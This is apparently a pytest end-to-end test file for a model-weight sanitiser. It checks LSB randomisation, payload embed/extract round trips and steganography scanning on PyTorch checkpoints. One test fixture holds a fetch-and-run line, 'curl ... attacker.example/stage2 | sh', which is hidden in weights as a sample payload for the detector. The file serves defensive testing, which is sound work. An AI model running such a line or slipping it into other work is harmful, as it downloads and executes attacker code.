"""Weight-level CDR end to end: disarm --randomize-lsb, scan --stego, modelcdr-lab embed/extract.

Inputs are benign and built here with torch; outputs are loaded with torch.load(weights_only=True).

    MODELCDR_BIN=build-stego/modelcdr /usr/bin/python3 -m pytest tests/e2e/test_stego.py
(modelcdr-lab is looked up next to MODELCDR_BIN, or set MODELCDR_LAB.)
"""
from __future__ import annotations

import json
import math
import os
import subprocess
from pathlib import Path

import numpy as np
import pytest

from conftest import bin_path, disarm, explain, import_torchvision, require_bin, run_cli
import stego_digits

torch = pytest.importorskip("torch")

# Keep in sync with src/stego/lsb_randomizer.hpp (LsbPolicy defaults).
DEFAULT_N = {"float64": 29, "float32": 14, "float16": 2, "bfloat16": 1}
MANT = {"float64": 52, "float32": 23, "float16": 10, "bfloat16": 7}
UINT = {"float64": np.uint64, "float32": np.uint32, "float16": np.uint16, "bfloat16": np.uint16}


def lab_path() -> Path:
    return Path(os.environ.get("MODELCDR_LAB") or (bin_path().parent / "modelcdr-lab"))


def run_lab(*args, timeout=300):
    lab = lab_path()
    if not lab.is_file():
        pytest.skip(f"modelcdr-lab not found at {lab} (set MODELCDR_LAB)")
    p = subprocess.run([str(lab)] + [str(a) for a in args], capture_output=True, timeout=timeout)
    return p.returncode, p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")


def raw_bits(t):
    """The IEEE bit patterns of a float tensor as an unsigned numpy array."""
    name = str(t.dtype).replace("torch.", "")
    if name == "bfloat16":
        return t.contiguous().view(torch.int16).numpy().view(np.uint16)
    return t.contiguous().numpy().view(UINT[name])


def load_out(path):
    return torch.load(path, weights_only=True)


def lsb_finding(report):
    fs = [f for f in report["files"][0]["findings"] if f["rule"] == "stego.lsb-randomized"]
    assert len(fs) == 1, report
    assert fs[0]["severity"] == "info"
    return fs[0]["message"]


@pytest.fixture(scope="module")
def digits_model(tmp_path_factory):
    model, (xte, yte) = stego_digits.train_cnn(seed=0)
    d = tmp_path_factory.mktemp("digits")
    p = d / "digits.pt"
    torch.save(model.state_dict(), p)
    return p, model.state_dict(), xte, yte


# --------------------------------------------------------------------------------------------------
# disarm --randomize-lsb
# --------------------------------------------------------------------------------------------------
def test_accuracy_kept_with_default_n(tmp_path, digits_model):
    require_bin()
    inp, sd, xte, yte = digits_model
    base = stego_digits.accuracy(sd, xte, yte)
    assert base > 90.0, base
    out, rep = tmp_path / "out.pt", tmp_path / "r.json"
    rc, so, se, report = disarm(inp, out, "--randomize-lsb", report=rep)
    assert rc == 0, explain(rc, so, se)
    msg = lsb_finding(report)
    assert "8 tensors" in msg and "float32 N=14" in msg, msg
    assert report["files"][0]["status"] == "clean" and report["files"][0]["removed"] == []
    got = load_out(out)
    changed = 0
    for k, v in sd.items():
        a, b = raw_bits(v), raw_bits(got[k])
        keep = np.uint32(~((1 << DEFAULT_N["float32"]) - 1) & 0xFFFFFFFF)
        assert np.array_equal(a & keep, b & keep), k
        changed += int((a != b).sum())
    assert changed > 0.99 * sum(v.numel() for v in sd.values())
    acc = stego_digits.accuracy(got, xte, yte)
    assert abs(acc - base) <= 0.5, (base, acc)


def test_every_float_dtype_and_special_values(tmp_path):
    require_bin()
    torch.manual_seed(1)
    sd = {}
    for name in ("float64", "float32", "float16", "bfloat16"):
        t = (torch.randn(4096) * 0.1).to(getattr(torch, name))
        t[0], t[1], t[2], t[3], t[4] = 0.0, -0.0, float("inf"), float("-inf"), float("nan")
        sd[name] = t
    tiny = torch.tensor([1e-40, -1e-41, 1e-44], dtype=torch.float32)  # float32 subnormals
    sd["subnormal"] = tiny
    sd["ints"] = torch.arange(1000, dtype=torch.int64)
    sd["bytes"] = torch.arange(256, dtype=torch.uint8)
    sd["mask"] = torch.ones(100, dtype=torch.bool)
    sd["view_a"] = sd["float32"][:100]  # shares storage with float32: randomised once
    inp = tmp_path / "in.pt"
    torch.save(sd, inp)
    out, rep = tmp_path / "out.pt", tmp_path / "r.json"
    rc, so, se, report = disarm(inp, out, "--randomize-lsb", "default", report=rep)
    assert rc == 0, explain(rc, so, se)
    msg = lsb_finding(report)
    got = load_out(out)
    for name in ("float64", "float32", "float16", "bfloat16"):
        a, b = raw_bits(sd[name]), raw_bits(got[name])
        n = DEFAULT_N[name]
        width = a.dtype.itemsize * 8
        keep = a.dtype.type(((1 << width) - 1) ^ ((1 << n) - 1))
        assert np.array_equal(a[5:] & keep, b[5:] & keep), name
        assert (a[5:] != b[5:]).mean() > 0.8 * (1 - 2.0 ** -n), name
        assert b[0] == a[0] and b[1] == a[1], f"{name}: zeros kept"
        assert b[2] == a[2] and b[3] == a[3], f"{name}: infinities kept"
        assert torch.isnan(got[name][4]), name
        quiet = 1 << (MANT[name] - 1)
        exp_all = ((1 << (width - 1)) - 1) ^ ((1 << MANT[name]) - 1)
        assert int(b[4]) == (int(a[4]) & (1 << (width - 1))) | exp_all | quiet, f"{name}: canonical NaN"
        assert f"{name} N={n}" in msg, msg
    sub = raw_bits(got["subnormal"])
    assert np.all((sub & np.uint32(0x7F800000)) == 0), "subnormals stay subnormal or become zero"
    assert np.array_equal(sub & np.uint32(~0x3FFF & 0xFFFFFFFF), raw_bits(tiny) & np.uint32(~0x3FFF & 0xFFFFFFFF))
    for name in ("ints", "bytes", "mask"):
        assert torch.equal(got[name], sd[name]), name
    assert np.array_equal(raw_bits(got["view_a"]), raw_bits(got["float32"][:100])), "shared storage randomised once"
    assert got["view_a"].storage().data_ptr() == got["float32"].storage().data_ptr(), "still one storage"
    assert "kept 8 zeros and 8 infinities, canonicalized 4 NaNs" in msg, msg


def test_randomize_lsb_values(tmp_path):
    require_bin()
    t = torch.randn(10000)
    inp = tmp_path / "in.pt"
    torch.save({"w": t}, inp)
    for spec, n in (("0", 0), ("float32=23", 23), ("float32=5", 5), ("f32=1,f16=2", 1)):
        out = tmp_path / f"o{n}.pt"
        rc, so, se, _ = disarm(inp, out, f"--randomize-lsb={spec}")
        assert rc == 0, explain(rc, so, se)
        a, b = raw_bits(t), raw_bits(load_out(out)["w"])
        hi = np.uint32((0xFFFFFFFF << n) & 0xFFFFFFFF)
        assert np.array_equal(a & hi, b & hi), spec
        if n == 0:
            assert np.array_equal(a, b)
        else:
            assert (a != b).mean() > 0.4, spec
    for bad in ("x", "float16=11", "99", "int8=3"):
        rc, so, se, _ = disarm(inp, tmp_path / "bad.pt", f"--randomize-lsb={bad}")
        assert rc == 2 and "randomize-lsb" in se, (bad, explain(rc, so, se))
    # without the option nothing changes
    rc, so, se, _ = disarm(inp, tmp_path / "plain.pt")
    assert rc == 0 and np.array_equal(raw_bits(load_out(tmp_path / "plain.pt")["w"]), raw_bits(t))


def test_two_disarms_differ(tmp_path):
    """The seed comes from the OS CSPRNG: two runs give different bits."""
    require_bin()
    inp = tmp_path / "in.pt"
    torch.save({"w": torch.randn(5000)}, inp)
    for i in (1, 2):
        rc, so, se, _ = disarm(inp, tmp_path / f"o{i}.pt", "--randomize-lsb")
        assert rc == 0, explain(rc, so, se)
    a = raw_bits(load_out(tmp_path / "o1.pt")["w"])
    b = raw_bits(load_out(tmp_path / "o2.pt")["w"])
    assert (a != b).mean() > 0.99


# --------------------------------------------------------------------------------------------------
# payload destruction (modelcdr-lab embed / extract)
# --------------------------------------------------------------------------------------------------
def per_position_ber(payload: bytes, got: bytes, k: int, n_elems: int):
    a = np.unpackbits(np.frombuffer(payload, np.uint8), bitorder="little")[: n_elems * k]
    b = np.unpackbits(np.frombuffer(got, np.uint8), bitorder="little")[: n_elems * k]
    return (a != b).reshape(n_elems, k).mean(axis=0)


@pytest.mark.parametrize("k", [1, 4, 8, 12, 16, 23])
def test_payload_destroyed(tmp_path, k):
    require_bin()
    n = 262144  # elements carrying the payload: >= 200k samples per bit position
    torch.manual_seed(k)
    sd = {"features.weight": torch.randn(512, 512) * 0.05, "bias": torch.zeros(512)}
    inp, emb = tmp_path / "in.pt", tmp_path / "emb.pt"
    torch.save(sd, inp)
    payload = np.random.default_rng(k).integers(0, 256, n * k // 8, dtype=np.uint8).tobytes()
    (tmp_path / "payload.bin").write_bytes(payload)
    rc, so, se = run_lab("embed", inp, "-o", emb, "--payload", tmp_path / "payload.bin", "--bits", k,
                         "--tensor", "features.weight")
    assert rc == 0, se
    rc, so, se = run_lab("extract", emb, "-o", tmp_path / "x0.bin", "--bits", k, "--length", len(payload),
                         "--tensor", "features.weight")
    assert rc == 0 and (tmp_path / "x0.bin").read_bytes() == payload, "embedding round trip"

    default_n = DEFAULT_N["float32"]
    for spec, n_rand in (("default", default_n),) + ((((f"float32={k}", k),) if k > default_n else ())):
        out = tmp_path / f"out_{spec}.pt"
        rc, so, se, _ = disarm(emb, out, f"--randomize-lsb={spec}")
        assert rc == 0, explain(rc, so, se)
        rc, so, se = run_lab("extract", out, "-o", tmp_path / "x.bin", "--bits", k, "--length", len(payload),
                             "--tensor", "features.weight")
        assert rc == 0, se
        ber = per_position_ber(payload, (tmp_path / "x.bin").read_bytes(), k, n)
        for j in range(k):
            if j < n_rand:
                assert abs(ber[j] - 0.5) <= 0.02, f"k={k} N={n_rand} bit {j}: BER {ber[j]:.4f}"
            else:
                assert ber[j] == 0.0, f"k={k} N={n_rand} bit {j} above N must be untouched: BER {ber[j]:.4f}"


# --------------------------------------------------------------------------------------------------
# scan --stego
# --------------------------------------------------------------------------------------------------
def stego_scan(path):
    rc, so, se = run_cli("scan", "--stego", "--json", path, timeout=300)
    assert rc in (0, 1), explain(rc, so, se)
    doc = json.loads(so)
    findings = doc["files"][0]["findings"]
    flagged = [f for f in findings if f["rule"] == "stego.lsb-suspicious"]
    summary = [f for f in findings if f["rule"] == "stego.summary"]
    assert len(summary) == 1 and summary[0]["severity"] == "info", findings
    return rc, flagged


@pytest.mark.torchvision
def test_scan_stego_clean_models_not_flagged(tmp_path, digits_model):
    require_bin()
    tv = import_torchvision()
    rc, flagged = stego_scan(digits_model[0])
    assert rc == 0 and flagged == [], flagged
    torch.manual_seed(0)
    for name, ctor in (("resnet18", tv.models.resnet18), ("mobilenet_v2", tv.models.mobilenet_v2)):
        p = tmp_path / f"{name}.pt"
        torch.save(ctor().state_dict(), p)
        rc, flagged = stego_scan(p)
        assert flagged == [], (name, flagged)
    # bf16-trained weights saved as float32 (low 16 bits zero) are clean too
    p = tmp_path / "upcast.pt"
    torch.save({k: v.to(torch.bfloat16).float() for k, v in torch.load(digits_model[0]).items()}, p)
    rc, flagged = stego_scan(p)
    assert flagged == [], flagged


@pytest.mark.parametrize("k", [1, 8, 16])
def test_scan_stego_flags_text_payload(tmp_path, k):
    require_bin()
    torch.manual_seed(k)
    inp, emb = tmp_path / "in.pt", tmp_path / "emb.pt"
    torch.save({"w": torch.randn(256, 256) * 0.05}, inp)
    text = (b"#!/bin/sh\ncurl -s http://attacker.example/stage2 | sh  # EvilModel-style payload\n" * 2000)
    (tmp_path / "p.txt").write_bytes(text[: 65536 * k // 8 // 10])  # 10% of capacity
    rc, so, se = run_lab("embed", inp, "-o", emb, "--payload", tmp_path / "p.txt", "--bits", k)
    assert rc == 0, se
    rc, flagged = stego_scan(emb)
    assert rc == 1 and len(flagged) == 1, flagged
    assert flagged[0]["severity"] in ("medium", "high") and "suspicion score" in flagged[0]["message"]
    # and disarm with the default N removes what was found (k <= N)
    out = tmp_path / "out.pt"
    rc, so, se, _ = disarm(emb, out, "--randomize-lsb")
    assert rc == 0, explain(rc, so, se)
    rc2, flagged2 = stego_scan(out)
    assert flagged2 == [] or k > DEFAULT_N["float32"], flagged2


def test_scan_stego_flags_random_payload_in_upcast_weights(tmp_path, digits_model):
    require_bin()
    inp, emb = tmp_path / "up.pt", tmp_path / "emb.pt"
    torch.save({k: v.to(torch.bfloat16).float() for k, v in torch.load(digits_model[0]).items()}, inp)
    (tmp_path / "p.bin").write_bytes(os.urandom(4096))
    rc, so, se = run_lab("embed", inp, "-o", emb, "--payload", tmp_path / "p.bin", "--bits", 4,
                         "--tensor", "6.weight")
    assert rc == 0, se
    rc, flagged = stego_scan(emb)
    assert rc == 1 and [f["message"].split("'")[1] for f in flagged] == ["6.weight"], flagged
    assert "stuck-band" in flagged[0]["message"]
